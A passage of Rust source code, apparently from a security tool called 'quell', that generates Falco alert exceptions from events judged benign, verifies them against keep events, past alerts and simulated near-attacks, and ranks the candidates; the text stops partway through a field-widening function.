//! Exception synthesis: candidate Falco exceptions over stable identity fields (the actor,
//! its lineage, the target, the workload), each field widened only along its kind's known
//! shape ([`crate::kinds`]). Every candidate is verified ([`crate::verify`]): it must
//! silence every benign event and nothing in the keep set, and no history alert outside the
//! benign set that triage rates `likely_real` or `uncertain` (or a person marked real).
//! Among the candidates that pass, one that silences fewer near-attacks made from the
//! benign events wins; then the most general (it also covers the next segment, the next
//! pod, the next file of the directory); then the template order. The block returned is
//! byte for byte the block verified.

use std::collections::BTreeSet;

use quell_events::FlatEvent;
use serde::Serialize;

use crate::emit::{block_yaml, comments, slug, ExVal, ExceptionSpec, Style};
use crate::input::{text, Record};
use crate::kinds::{command_words, is_interpreter, is_socket_name, ladder, Gen, PATH_TARGETS};
use crate::verify::{Verification, Verifier};

pub use crate::kinds::{safe_for_eq, safe_in_list};

/// The parts of an exception a template combines.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Role {
    /// The executable (`proc.exepath`, else `proc.name`); for an interpreter also its
    /// command line (the script, module or main class).
    Actor,
    /// `proc.pname`.
    Parent,
    /// `proc.aname[2]`.
    Grandparent,
    /// Any ancestor (unindexed `proc.aname`) every benign event shares beyond its parent.
    Ancestor,
    /// What the event acted on: a path, the server of a connection, else the command line.
    Target,
    /// The command line.
    Command,
    /// `user.name`.
    User,
    /// Image repository, namespace, the pod's controller.
    Workload,
}

use Role::*;

/// The templates tried, in order of preference (broadest first among equals).
const TEMPLATES: &[(&str, &[Role])] = &[
    (
        "actor+parent+target+workload",
        &[Actor, Parent, Target, Workload],
    ),
    (
        "actor+lineage+target+workload",
        &[Actor, Parent, Grandparent, Target, Workload],
    ),
    (
        "actor+parent+ancestor+target+workload",
        &[Actor, Parent, Ancestor, Target, Workload],
    ),
    (
        "actor+parent+target+user+workload",
        &[Actor, Parent, Target, User, Workload],
    ),
    (
        "actor+lineage+target+user+workload",
        &[Actor, Parent, Grandparent, Target, User, Workload],
    ),
    (
        "actor+command+parent+target+workload",
        &[Actor, Command, Parent, Target, Workload],
    ),
    (
        "actor+command+lineage+target+user+workload",
        &[Actor, Command, Parent, Grandparent, Target, User, Workload],
    ),
    ("actor+target+workload", &[Actor, Target, Workload]),
    (
        "actor+target+user+workload",
        &[Actor, Target, User, Workload],
    ),
];

/// Options.
#[derive(Clone, Debug, Default)]
pub struct Options {
    /// Emit `append: true` instead of `override`.
    pub legacy: bool,
    /// Provenance lines for the comment header (sources of the events, tool version).
    pub provenance: Vec<String>,
    /// Most alternatives returned (0: the best alone). Only what is returned gets its
    /// printed text verified again.
    pub max_alternatives: usize,
}

/// One verified candidate.
#[derive(Clone, Debug, Serialize)]
pub struct Candidate {
    /// Which template produced it.
    pub template: String,
    /// How far its values were widened: the sum over its fields of 0 (the values seen),
    /// 1 (the kind's variable parts) or 2 (the directory, network or script around them).
    pub generality: u32,
    /// The exceptions.
    pub exceptions: Vec<ExceptionSpec>,
    /// The full YAML (comments + block), exactly as verified.
    pub yaml: String,
    /// Its verification.
    pub verification: Verification,
}

/// The result: the best verified candidate and the ranked alternatives.
#[derive(Clone, Debug, Serialize)]
pub struct Proposal {
    /// The rule.
    pub rule: String,
    /// The best candidate.
    pub best: Candidate,
    /// Other candidates, best first (passing ones first).
    pub alternatives: Vec<Candidate>,
}

/// Why no exception can be proposed.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum SynthError {
    /// No benign events.
    #[error("the benign set is empty: give at least one event or alert the rule raised")]
    NoBenign,
    /// None of the benign events alert for the rule.
    #[error("none of the {given} benign event(s) trigger the rule \"{rule}\": there is nothing to silence")]
    BenignDoNotAlert {
        /// The rule.
        rule: String,
        /// Events given.
        given: usize,
    },
    /// Every candidate also silences a history alert that is not known to be benign.
    #[error("no exception silences the benign events without also silencing a past alert of \"{rule}\" outside the benign set that {why}: {description} (cluster {cluster}); mark it benign in the history if a person judged it so, or narrow the benign set")]
    Blocked {
        /// The rule.
        rule: String,
        /// Why it blocks: `triage rates likely_real`, ...
        why: String,
        /// The blocking alert, described (escaped).
        description: String,
        /// Its cluster.
        cluster: String,
    },
    /// No candidate separates benign from keep events.
    #[error(
        "no exception over stable fields separates the benign events from the keep events: {0}"
    )]
    NoSeparation(String),
}

/// How the benign events of one exception are told apart by their target.
#[derive(Clone, Debug, PartialEq, Eq)]
enum TargetKind {
    /// A path field.
    Path(&'static str),
    /// A connection: its server side.
    Net,
    /// Nothing to act on: the command line stands for the target.
    None,
}

fn target_kind(ev: &FlatEvent) -> TargetKind {
    if ["fd.sip", "fd.sip.name", "fd.sport"]
        .iter()
        .any(|k| text(ev, k).is_some())
        || text(ev, "fd.name").is_some_and(|v| is_socket_name(&v))
    {
        return TargetKind::Net;
    }
    PATH_TARGETS
        .iter()
        .find(|k| text(ev, k).is_some_and(|v| !is_socket_name(&v)))
        .map_or(TargetKind::None, |k| TargetKind::Path(k))
}

/// Benign events grouped by the kind of their target (a truncation names `fd.name`, a
/// deletion `fs.path.name`, a connection its server): each group gets its own exception.
fn partitions<'r>(benign: &[&'r Record]) -> Vec<(TargetKind, Vec<&'r FlatEvent>)> {
    let mut out: Vec<(TargetKind, Vec<&'r FlatEvent>)> = Vec::new();
    for r in benign {
        let t = target_kind(&r.event);
        match out.iter_mut().find(|(k, _)| *k == t) {
            Some((_, v)) => v.push(&r.event),
            None => out.push((t, vec![&r.event])),
        }
    }
    out
}

fn all_have(events: &[&FlatEvent], f: &str) -> bool {
    events.iter().all(|e| text(e, f).is_some())
}

fn any_interpreter(events: &[&FlatEvent]) -> bool {
    events.iter().any(|e| {
        text(e, "proc.name").is_some_and(|n| is_interpreter(&n))
            || text(e, "proc.exepath").is_some_and(|n| is_interpreter(&n))
    })
}

/// Names too generic to tell a lineage apart as "any ancestor".
const GENERIC_ANCESTORS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ash",
    "busybox",
    "env",
    "sudo",
    "su",
    "init",
    "systemd",
    "containerd-shim",
    "containerd-shim-runc-v2",
    "runc",
    "tini",
    "dumb-init",
    "setsid",
    "timeout",
    "nohup",
    "xargs",
    "script",
];

/// An ancestor name (levels 2..8) every benign event has, nearest first, not a shell or a
/// generic launcher.
fn shared_ancestor(events: &[&FlatEvent]) -> Option<String> {
    let first = events.first()?;
    (2..=8)
        .filter_map(|n| text(first, &format!("proc.aname[{n}]")))
        .filter(|a| !GENERIC_ANCESTORS.contains(&a.as_str()))
        .find(|a| {
            events.iter().all(|e| {
                (2..=8).any(|n| text(e, &format!("proc.aname[{n}]")).as_deref() == Some(a))
            })
        })
}

/// The fields a template keys on for one partition (`None`: the template does not apply).
fn fields_for(roles: &[Role], tk: &TargetKind, events: &[&FlatEvent]) -> Option<Vec<String>> {
    let mut fields: Vec<String> = Vec::new();
    let mut push = |f: &str| {
        if !fields.iter().any(|x| x == f) {
            fields.push(f.to_string());
        }
    };
    for role in roles {
        match role {
            Actor => {
                if all_have(events, "proc.exepath") {
                    push("proc.exepath");
                } else if all_have(events, "proc.name") {
                    push("proc.name");
                } else {
                    return None;
                }
                if any_interpreter(events) {
                    // An interpreter is never the whole actor: its script goes in.
                    if !all_have(events, "proc.cmdline") {
                        return None;
                    }
                    push("proc.cmdline");
                }
            }
            Parent => {
                if !all_have(events, "proc.pname") {
                    return None;
                }
                push("proc.pname");
            }
            Grandparent => {
                if !all_have(events, "proc.aname[2]") {
                    return None;
                }
                push("proc.aname[2]");
            }
            Ancestor => push("proc.aname"),
            Target => match tk {
                TargetKind::Path(f) => push(f),
                TargetKind::Net => {
                    if all_have(events, "fd.sip.name") {
                        push("fd.sip.name");
                    } else if all_have(events, "fd.sip") {
                        push("fd.sip");
                    }
                    if all_have(events, "fd.sport") {
                        push("fd.sport");
                    }
                }
                TargetKind::None => {
                    if !all_have(events, "proc.cmdline") {
                        return None;
                    }
                    push("proc.cmdline");
                }
            },
            Command => {
                if !all_have(events, "proc.cmdline") {
                    return None;
                }
                push("proc.cmdline");
            }
            User => {
                if !all_have(events, "user.name") {
                    return None;
                }
                push("user.name");
            }
            Workload => {
                for w in ["container.image.repository", "k8s.ns.name", "k8s.pod.name"] {
                    if all_have(events, w) {
                        push(w);
                    }
                }
            }
        }
    }
    (!fields.is_empty()).then_some(fields)
}

/// The ladder of one field over a partition's events.
fn field_ladder(field: &str, events: &[&FlatEvent]) -> Vec<Gen> {
    if field == "proc.aname" {
        return shared_ancestor(events)
            .filter(|a| safe_for_eq(a))
            .map(|a| Gen {
                field: "proc.aname".into(),
                comp: "=".into(),
                value: ExVal::One(a),
                level: 0,
            })
            .into_iter()
            .collect();
    }
    let vals: Option<Vec<String>> = events.iter().map(|e| text(e, field)).collect();
    let mut l = vals.map(|v| ladder(field, &v)).unwrap_or_default();
    if field == "proc.cmdline" && !l.is_empty() {
        l.extend(generated_command_gen(events));
    }
    l
}

/// The command line of a build tool's generated binary, widest: its first word as any
/// name (`* -test.timeout=*`), when every event's
/// executable is a generated binary ([`crate::kinds::generated_binary`]) run under its own
/// name, and all give one shape.
fn generated_command_gen(events: &[&FlatEvent]) -> Option<Gen> {
    let shapes: BTreeSet<String> = events
        .iter()
        .map(|e| {
            let exe = text(e, "proc.exepath")?;
            crate::kinds::generated_binary(&exe)?;
            let name = exe.rsplit('/').next()?.to_string();
            crate::kinds::generated_command(&text(e, "proc.cmdline")?, &name)
        })
        .collect::<Option<_>>()?;
    let g = (shapes.len() == 1).then(|| shapes.into_iter().next())??;
    Some(Gen {
        field: "proc.cmdline".into(),
        comp: "glob".into(),
        value: ExVal::One(g),
        level: 2,
    })
}

/// Most value rows one exception takes.
const MAX_ROWS: usize = 12;

/// The exception's value rows: one, unless a glob covers several shapes (a list of globs,
/// `/root/.bash_history` and `/home/*/.bash_history`), which Falco takes as one row per
/// shape (the rows are alternatives). `None` past [`MAX_ROWS`].
fn rows(chosen: &[Gen]) -> Option<Vec<Vec<ExVal>>> {
    let mut rows: Vec<Vec<ExVal>> = vec![Vec::new()];
    for g in chosen {
        match (&g.value, g.comp.as_str()) {
            (ExVal::Many(shapes), "glob" | "regex") => {
                rows = rows
                    .iter()
                    .flat_map(|r| {
                        shapes.iter().map(move |v| {
                            let mut r = r.clone();
                            r.push(ExVal::One(v.clone()));
                            r
                        })
                    })
                    .collect();
            }
            (v, _) => rows.iter_mut().for_each(|r| r.push(v.clone())),
        }
        if rows.len() > MAX_ROWS {
            return None;
        }
    }
    Some(rows)
}

/// The rung each field takes at a widening level: its widest generalisation not above
/// `level` (an index into its ladder).
fn rungs_at(ladders: &[Vec<Gen>], level: u8) -> Option<Vec<usize>> {
    ladders
        .iter()
        .map(|l| l.iter().rposition(|g| g.level <= level))
        .collect()
}

/// Builds one partition's exception from the rung each field takes.
fn build(
    ladders: &[Vec<Gen>],
    rungs: &[usize],
    name: &str,
) -> Option<(ExceptionSpec, u32, Vec<Gen>)> {
    let chosen: Vec<Gen> = ladders
        .iter()
        .zip(rungs)
        .map(|(l, &r)| l.get(r).cloned())
        .collect::<Option<_>>()?;
    let generality = chosen.iter().map(|g| u32::from(g.level)).sum();
    Some((
        ExceptionSpec {
            name: name.to_string(),
            fields: chosen.iter().map(|g| g.field.clone()).collect(),
            comps: chosen.iter().map(|g| g.comp.clone()).collect(),
            values: rows(&chosen)?,
        },
        generality,
        chosen,
    ))
}

/// Well-known server ports, for names (never the number itself).
fn service_of(port: &str) -> Option<&'static str> {
    Some(match port {
        "21" => "ftp",
        "22" => "ssh",
        "25" | "587" | "465" => "smtp",
        "53" => "dns",
        "80" | "8080" | "8000" => "http",
        "443" | "8443" => "https",
        "873" => "rsync",
        "389" | "636" => "ldap",
        "2379" => "etcd",
        "3306" => "mysql",
        "5432" => "postgres",
        "5672" => "amqp",
        "6379" => "redis",
        "6443" => "kube_apiserver",
        "9090" => "prometheus",
        "9092" => "kafka",
        "9200" => "elasticsearch",
        "11211" => "memcached",
        "27017" => "mongodb",
        _ => return None,
    })
}

fn verb(ev: &FlatEvent) -> &'static str {
    let t = text(ev, "evt.type").unwrap_or_default();
    let flags = text(ev, "evt.arg.flags").unwrap_or_default();
    match t.as_str() {
        "unlink" | "unlinkat" | "rmdir" => "deletes",
        "rename" | "renameat" | "renameat2" => "renames",
        "open" | "openat" | "openat2" | "creat" => {
            if flags.contains("O_TRUNC") {
                "truncates"
            } else if flags.contains("O_WRONLY")
                || flags.contains("O_RDWR")
                || flags.contains("O_CREAT")
                || t == "creat"
            {
                "writes"
            } else {
                "reads"
            }
        }
        "connect" => "connects_to",
        "accept" | "accept4" => "accepts",
        "execve" | "execveat" => "runs",
        "chmod" | "fchmod" | "fchmodat" => "chmods",
        "mkdir" | "mkdirat" => "creates",
        "ptrace" => "traces",
        "symlink" | "symlinkat" | "link" | "linkat" => "links",
        "" => "acts_on",
        _ => "acts_on",
    }
}

fn no_digits(s: &str) -> String {
    s.chars().filter(|c| !c.is_ascii_digit()).collect()
}

/// Who acts: the script of an interpreter, else the process name (whole: the kernel keeps
/// 15 characters of it, `mkhomedir_helpe`, so the executable's file name when it starts with
/// the cut).
fn actor_name(ev: &FlatEvent) -> String {
    let mut name = text(ev, "proc.name").unwrap_or_default();
    if name.chars().count() == 15 {
        if let Some(file) = text(ev, "proc.exepath")
            .and_then(|x| x.rsplit('/').next().map(str::to_string))
            .filter(|f| f.len() > name.len() && f.starts_with(&name))
        {
            name = file;
        }
    }
    if is_interpreter(&name) {
        if let Some(cmd) = text(ev, "proc.cmdline") {
            let words: Vec<&str> = cmd.split(' ').collect();
            let n = command_words(&words);
            if n >= 2 {
                let w = words[n - 1];
                let base = w.rsplit('/').next().unwrap_or(w);
                if !base.is_empty() && !base.starts_with('-') {
                    return base.to_string();
                }
            }
        }
    }
    name
}

/// What a shell program's regex ([`crate::kinds::shell_program_regex`]) runs or writes:
/// the last two fixed components of its first widened path and the files' extension
/// (`fluentd_scripts_sh`, `postgresql_exports_csv_gz`, `mail_lists`); the pattern's own
/// syntax (classes, groups, repetitions) never shows in a name.
fn regex_files(rx: &str) -> Option<String> {
    let word = rx
        .split(' ')
        .find(|w| w.starts_with('/') && w.contains('['))?;
    // Groups (a version's `([.][0-9]+)*`) and classes out, a literal `[.]` kept as a dot.
    let mut plain = String::new();
    let mut depth = 0usize;
    let mut rest = word;
    while let Some(c) = rest.chars().next() {
        if let Some(r) = rest.strip_prefix("[.]") {
            if depth == 0 {
                plain.push('.');
            }
            rest = r;
            continue;
        }
        match c {
            '(' => depth += 1,
            ')' => depth = depth.saturating_sub(1),
            '[' => {
                let end = rest[1..].find(']').map_or(rest.len(), |i| i + 2);
                rest = &rest[end.min(rest.len())..];
                continue;
            }
            '+' | '*' | '?' => {}
            c if depth == 0 => plain.push(c),
            _ => {}
        }
        rest = &rest[c.len_utf8()..];
    }
    let (dir, file) = plain.rsplit_once('/').unwrap_or(("", &plain));
    let ext = file
        .split_once('.')
        .map_or("", |(_, e)| e)
        .replace('.', "_");
    let dirs: Vec<&str> = dir.split('/').filter(|d| !d.is_empty()).collect();
    let dirs = &dirs[dirs.len().saturating_sub(2)..];
    let mut parts: Vec<String> = dirs.iter().map(|d| d.to_string()).collect();
    if !ext.is_empty() {
        parts.push(ext);
    }
    (!parts.is_empty()).then(|| parts.join("_"))
}

/// A name a person can read: behaviour and target (`logrotate_truncates_var_log_app`),
/// never addresses, ports or digit runs.
fn readable_name(ev: &FlatEvent, chosen: &[Gen]) -> String {
    // A generated binary widened to any name with its extension is not the one seen.
    let generated = chosen.iter().find_map(|g| match &g.value {
        ExVal::One(v) if g.field == "proc.exepath" && g.comp == "glob" => v
            .rsplit('/')
            .next()
            .and_then(|n| n.strip_prefix("*."))
            .map(|ext| format!("{ext}_binary")),
        _ => None,
    });
    // A shell's program widened to the files of a directory runs that directory's files
    // (`fluentd_scripts_sh`), not the one seen.
    let program = chosen.iter().find_map(|g| match &g.value {
        ExVal::One(v) if g.field == "proc.cmdline" && g.comp == "regex" => regex_files(v),
        _ => None,
    });
    let actor = no_digits(&generated.or(program).unwrap_or_else(|| actor_name(ev)));
    let v = verb(ev);
    let target = chosen
        .iter()
        .find_map(|g| {
            let val = match &g.value {
                ExVal::One(s) => s.clone(),
                ExVal::Many(v) => v.first().cloned().unwrap_or_default(),
            };
            match crate::kinds::kind(&g.field) {
                crate::kinds::Kind::Path
                    if crate::kinds::family_label(&g.comp, &g.value).is_some() =>
                {
                    crate::kinds::family_label(&g.comp, &g.value).map(str::to_string)
                }
                crate::kinds::Kind::Path => {
                    let t = if g.comp == "startswith" || g.comp == "pmatch" {
                        // A directory: its last two components.
                        let d = val.trim_end_matches('/');
                        d.rsplit('/')
                            .take(3)
                            .collect::<Vec<_>>()
                            .into_iter()
                            .rev()
                            .collect::<Vec<_>>()
                            .join("_")
                    } else {
                        val.rsplit('/').next().unwrap_or_default().to_string()
                    };
                    Some(t)
                }
                _ if g.field == "fd.sip.name" => {
                    Some(val.split('.').next().unwrap_or_default().to_string())
                }
                _ if g.field == "fd.sport" => {
                    Some(service_of(&val).unwrap_or("server").to_string())
                }
                _ if g.field == "fd.sip" || g.field == "fd.snet" => None,
                _ => None,
            }
        })
        .or_else(|| {
            chosen
                .iter()
                .any(|g| g.field == "fd.sip" || g.field == "fd.snet")
                .then(|| "server".to_string())
        })
        .unwrap_or_default();
    let target = no_digits(&target.replace('*', ""));
    let name = slug(&[&actor, v, &target]);
    if name.is_empty() {
        "quell_exception".into()
    } else {
        name
    }
}

fn header(rule: &str, v: &Verification, opts: &Options, regex: bool) -> String {
    let mut lines = vec![format!(
        "quell tune: exception for rule \"{rule}\", for {} benign event(s) a person judged benign",
        v.benign_total
    )];
    for p in &opts.provenance {
        lines.push(format!("Provenance: {p}"));
    }
    if regex {
        lines.push(
            "Uses the regex operator (RE2 POSIX syntax, whole value): Falco 0.39.0 or later."
                .into(),
        );
    }
    lines.push("Verified before printing, by loading these exact bytes after the rules:".into());
    lines.push(format!(
        "  loads: {} ({} error(s), {} warning(s){})",
        if v.loads { "yes" } else { "no" },
        v.errors.len(),
        v.warnings.len(),
        if opts.legacy {
            "; Falco's deprecation warning for `append: true` is expected"
        } else {
            ""
        }
    ));
    lines.push(format!(
        "  benign events silenced: {} of {}",
        v.benign_total.min(v.benign_silenced),
        v.benign_total
    ));
    lines.push(format!(
        "  keep events still alerting: {} of {}",
        v.keep_alerting, v.keep_total
    ));
    let b = &v.blast_radius;
    lines.push(format!(
        "  blast radius over history: {} of {} past alert(s) of this rule silenced, {} outside the benign set, {} triaged likely_real or uncertain (refused when > 0), {} marked real",
        b.silenced, b.history_alerts, b.outside_benign_set, b.blocking, b.marked_real
    ));
    for c in b.clusters.iter().take(5) {
        let ex = c.examples.first().cloned().unwrap_or_default();
        if c.in_benign_set == c.count {
            lines.push(format!(
                "    the benign set's own events: {} (e.g. {ex})",
                c.count
            ));
        } else {
            lines.push(format!(
                "    cluster {} ({}): {} silenced (e.g. {ex})",
                c.cluster,
                c.verdict.map_or("not triaged", |v| v.as_str()),
                c.count
            ));
        }
    }
    let total = v.mutations.len();
    let silenced: Vec<&str> = v
        .mutations
        .iter()
        .filter(|m| m.silenced)
        .map(|m| m.kind.as_str())
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect();
    lines.push(format!(
        "  near-attacks made from the benign events: {} still alerting of {}{}",
        total - v.mutations.iter().filter(|m| m.silenced).count(),
        total,
        if silenced.is_empty() {
            String::new()
        } else {
            format!("; silenced: {}", silenced.join(", "))
        }
    ));
    if silenced.contains(&"download_before") {
        lines.push("    (what ran before an event is invisible to an exception: triage, which sees the session, judges those)".into());
    }
    lines.push(
        "The final decision is a person's: review before loading it after your rules.".into(),
    );
    comments(&lines)
}

/// Emits the final text (header + block) and verifies those exact bytes. The header
/// carries the figures of a first verification of the block; the returned verification
/// is the one of the final text, and the two must agree.
pub fn emit_verified(
    vf: &Verifier<'_>,
    exceptions: &[ExceptionSpec],
    opts: &Options,
) -> (String, Verification) {
    let block = block_yaml(vf.rule(), exceptions, style_of(opts));
    let first = vf.verify(&block, opts.legacy);
    finalize(vf, &block, first, opts, uses_regex(exceptions))
}

/// [`emit_verified`] for exceptions already verified in another form as `expected` (the
/// legacy form of a candidate verified in the rules-editor form): the header is written from
/// `expected` and the printed text is verified once. When that verification differs from
/// `expected`, the block is verified on its own first, as [`emit_verified`] does, so the
/// header always states the verification of the very text it heads.
pub fn emit_verified_as(
    vf: &Verifier<'_>,
    exceptions: &[ExceptionSpec],
    opts: &Options,
    expected: &Verification,
) -> (String, Verification) {
    let block = block_yaml(vf.rule(), exceptions, style_of(opts));
    let regex = uses_regex(exceptions);
    let text = format!("{}{}", header(vf.rule(), expected, opts, regex), block);
    let fin = vf.verify(&text, opts.legacy);
    if fin == *expected {
        return (text, fin);
    }
    let first = vf.verify(&block, opts.legacy);
    finalize(vf, &block, first, opts, regex)
}

/// How a block is written for `opts`.
fn style_of(opts: &Options) -> Style {
    if opts.legacy {
        Style::Legacy
    } else {
        Style::Override
    }
}

/// Whether an exception compares with `regex` (Falco 0.39.0 and later load it).
fn uses_regex(exceptions: &[ExceptionSpec]) -> bool {
    exceptions
        .iter()
        .any(|x| x.comps.iter().any(|c| c == "regex"))
}

/// The header for a block verified as `first`, then the verification of the final text.
fn finalize(
    vf: &Verifier<'_>,
    block: &str,
    first: Verification,
    opts: &Options,
    regex: bool,
) -> (String, Verification) {
    let text = format!("{}{}", header(vf.rule(), &first, opts, regex), block);
    let mut fin = vf.verify(&text, opts.legacy);
    if fin != first {
        // Comments cannot change the meaning; if they did, refuse the block.
        fin.passed = false;
        fin.errors
            .push("verification of the printed text differs from the block's verification".into());
    }
    (text, fin)
}

/// A progress report: `(done, total)` candidates verified. Called from the verification
/// threads, so it must be `Sync`.
pub type ProgressFn<'p> = &'p (dyn Fn(usize, usize) + Sync);

/// Verifies blocks on all cores (each verification loads a fresh engine), over the history
/// or without it ([`Verifier::verify_without_history`]), reporting each verified block to
/// `progress`.
fn verify_all(
    vf: &Verifier<'_>,
    blocks: &[String],
    legacy: bool,
    history: bool,
    progress: ProgressFn<'_>,
) -> Vec<Verification> {
    let total = blocks.len();
    // Counted and reported under one lock, so that reports arrive in order.
    let done = std::sync::Mutex::new(0usize);
    let verify_one = |b: &String| {
        let v = if history {
            vf.verify(b, legacy)
        } else {
            vf.verify_without_history(b, legacy)
        };
        if let Ok(mut n) = done.lock() {
            *n += 1;
            progress((*n).min(total), total);
        }
        v
    };
    let threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1)
        .clamp(1, 8)
        .min(blocks.len().max(1));
    if threads <= 1 {
        return blocks.iter().map(verify_one).collect();
    }
    let mut out: Vec<Option<Verification>> = vec![None; blocks.len()];
    std::thread::scope(|s| {
        let handles: Vec<_> = (0..threads)
            .map(|t| {
                let verify_one = &verify_one;
                s.spawn(move || {
                    blocks
                        .iter()
                        .enumerate()
                        .skip(t)
                        .step_by(threads)
                        .map(|(i, b)| (i, verify_one(b)))
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        for h in handles {
            // A verification thread cannot panic on input (verify handles every error);
            // should one die anyway, its blocks are verified again below.
            if let Ok(v) = h.join() {
                for (i, r) in v {
                    if let Some(slot) = out.get_mut(i) {
                        *slot = Some(r);
                    }
                }
            }
        }
    });
    out.into_iter()
        .zip(blocks)
        .map(|(v, b)| v.unwrap_or_else(|| verify_one(b)))
        .collect()
}

/// Whether a verification without the history can still pass with it.
fn can_pass(v: &Verification) -> bool {
    v.loads
        && v.benign_total > 0
        && v.benign_silenced == v.benign_total
        && v.keep_alerting == v.keep_total
}

/// The verifications of the candidates `built`, enough of them over the history for the
/// first `wanted` templates of the ranking ([`rank_key`], each template's best candidate:
/// `synthesize` keeps one per template) to be the full verification's.
///
/// Every candidate is first verified without the history (loading, the benign and keep
/// sets, the near-attacks: the short part). Among passing candidates the ranking is by
/// near-attacks silenced, generality and template order alone, none of which the history
/// changes; so those that can still pass are checked over the history in that order, and
/// once candidates of `wanted` templates pass, the others cannot rank before them and are
/// left as verified without the history (never `passed`). When fewer pass, every
/// candidate is verified over the history and ranked as a whole, failures included.
fn verify_ranked(
    vf: &Verifier<'_>,
    built: &[Built],
    legacy: bool,
    wanted: usize,
    progress: ProgressFn<'_>,
) -> Vec<Verification> {
    let blocks: Vec<String> = built.iter().map(|b| b.4.clone()).collect();
    let total = blocks.len();
    let mut out = verify_all(vf, &blocks, legacy, false, &|_, _| {});
    let mut order: Vec<usize> = (0..total)
        .filter(|&i| out.get(i).is_some_and(can_pass))
        .collect();
    order.sort_by_key(|&i| {
        (
            out.get(i).map_or(usize::MAX, |v| v.mutations_silenced),
            std::cmp::Reverse(built.get(i).map_or(0, |b| b.2)),
            built.get(i).map_or(usize::MAX, |b| b.0),
        )
    });
    let mut full = vec![false; total];
    // Alternatives are one per template (`synthesize`): `wanted` counts templates.
    let mut passed: BTreeSet<&str> = BTreeSet::new();
    let mut done = 0;
    for i in order {
        if passed.len() >= wanted {
            break;
        }
        let (Some(slot), Some(b)) = (out.get_mut(i), blocks.get(i)) else {
            continue;
        };
        *slot = vf.verify(b, legacy);
        if slot.passed {
            if let Some(t) = built.get(i) {
                passed.insert(t.1);
            }
        }
        full[i] = true;
        done += 1;
        progress(done, total);
    }
    if passed.len() < wanted {
        let rest: Vec<usize> = (0..total).filter(|&i| !full[i]).collect();
        let rest_blocks: Vec<String> = rest
            .iter()
            .filter_map(|&i| blocks.get(i).cloned())
            .collect();
        let verified = verify_all(vf, &rest_blocks, legacy, true, &|n, _| {
            progress(done + n, total);
        });
        for (i, v) in rest.into_iter().zip(verified) {
            if let Some(slot) = out.get_mut(i) {
                *slot = v;
            }
        }
    }
    progress(total, total);
    out
}

/// Ranking: passing first; then fewer keep events silenced, fewer blocking history
/// alerts, fewer benign events left alerting (for failures); then fewer avoidable
/// near-attacks silenced; then the most general; then the template order.
fn rank_key(
    v: &Verification,
    generality: u32,
    order: usize,
) -> (
    bool,
    usize,
    usize,
    usize,
    usize,
    std::cmp::Reverse<u32>,
    usize,
) {
    (
        !v.passed,
        v.keep_total - v.keep_alerting,
        v.blast_radius.blocking,
        v.benign_total - v.benign_silenced.min(v.benign_total),
        v.mutations_silenced,
        std::cmp::Reverse(generality),
        order,
    )
}

/// A verified candidate before its final text: order, template, generality, exceptions,
/// block, verification.
type Ranked<'t> = (
    usize,
    &'t str,
    u32,
    Vec<ExceptionSpec>,
    String,
    Verification,
);

/// Widening levels tried for each template.
const LEVELS: [u8; 3] = [0, 1, 2];

/// A candidate before verification: order, template, generality, exceptions, block.
type Built = (usize, &'static str, u32, Vec<ExceptionSpec>, String);

/// The candidate blocks for `rule` from the benign events: every template at every
/// widening level, each distinct set of exceptions once.
/// Each partition's field ladders under a template's roles (`None`: the template does not
/// apply to some partition).
fn template_ladders(
    roles: &[Role],
    parts: &[(TargetKind, Vec<&FlatEvent>)],
) -> Option<Vec<Vec<Vec<Gen>>>> {
    parts
        .iter()
        .map(|(tk, events)| {
            let fields = fields_for(roles, tk, events)?;
            let ladders: Vec<Vec<Gen>> = fields.iter().map(|f| field_ladder(f, events)).collect();
            ladders.iter().all(|l| !l.is_empty()).then_some(ladders)
        })
        .collect()
}

/// The exceptions of every partition with the rungs chosen for each, named, and their
/// generality (`None`: some partition's exception cannot be built).
fn assemble(
    parts: &[(TargetKind, Vec<&FlatEvent>)],
    per_part: &[Vec<Vec<Gen>>],
    rungs: &[Vec<usize>],
) -> Option<(Vec<ExceptionSpec>, u32)> {
    let mut exs = Vec::new();
    let mut generality = 0;
    let mut names: BTreeSet<String> = BTreeSet::new();
    for (((_, events), ladders), r) in parts.iter().zip(per_part).zip(rungs) {
        let (mut ex, g, chosen) = build(ladders, r, "")?;
        let base = events
            .first()
            .map(|e| readable_name(e, &chosen))
            .unwrap_or_default();
        let mut name = base.clone();
        let mut k = 2;
        while !names.insert(name.clone()) {
            name = format!("{base}_{k}");
            k += 1;
        }
        ex.name = name;
        generality += g;
        exs.push(ex);
    }
    (exs.len() == parts.len()).then_some((exs, generality))
}

fn candidates(rule: &str, benign: &[&Record], style: Style) -> Vec<Built> {
    let parts = partitions(benign);
    let mut seen: BTreeSet<Vec<ExceptionSpec>> = BTreeSet::new();
    let mut built: Vec<Built> = Vec::new();
    for (t_order, (tname, roles)) in TEMPLATES.iter().enumerate() {
        let Some(per_part) = template_ladders(roles, &parts) else {
            continue;
        };
        for (l_order, level) in LEVELS.iter().enumerate() {
            let Some(rungs) = per_part
                .iter()
                .map(|ladders| rungs_at(ladders, *level))
                .collect::<Option<Vec<_>>>()
            else {
                continue;
            };
            let Some((exs, generality)) = assemble(&parts, &per_part, &rungs) else {
                continue;
            };
            if !seen.insert(exs.clone()) {
                continue;
            }
            let block = block_yaml(rule, &exs, style);
            built.push((
                t_order * LEVELS.len() + l_order,
                tname,
                generality,
                exs,
                block,
            ));
        }
    }
    built
}

/// The best passing candidate widened one field at a time: the uniform levels move every
/// field together, so a field whose wider rung is harmless stays narrow whenever another
/// field's wider rung silences a near-attack or a past alert. Each field in turn takes its
/// widest rung above the current one that still passes over the history and silences no
/// more avoidable near-attacks; `None` when no field widens.
fn widen_fields(
    vf: &Verifier<'_>,
    benign: &[&Record],
    best: &Ranked<'_>,
    style: Style,
    legacy: bool,
) -> Option<(u32, Vec<ExceptionSpec>, String, Verification)> {
    let (order, tname, ..) = *best;
    let level = *LEVELS.get(order % LEVELS.len())?;
    let roles = TEMPLATES.iter().find(|(n, _)| *n == tname)?.1;
    let parts = partitions(benign);
    let per_part = template_ladders(roles, &parts)?;
    let mut rungs: Vec<Vec<usize>> = per_part
        .iter()
        .map(|ladders| rungs_at(ladders, level))
        .collect::<Option<_>>()?;
    let mut current = best.5.clone();
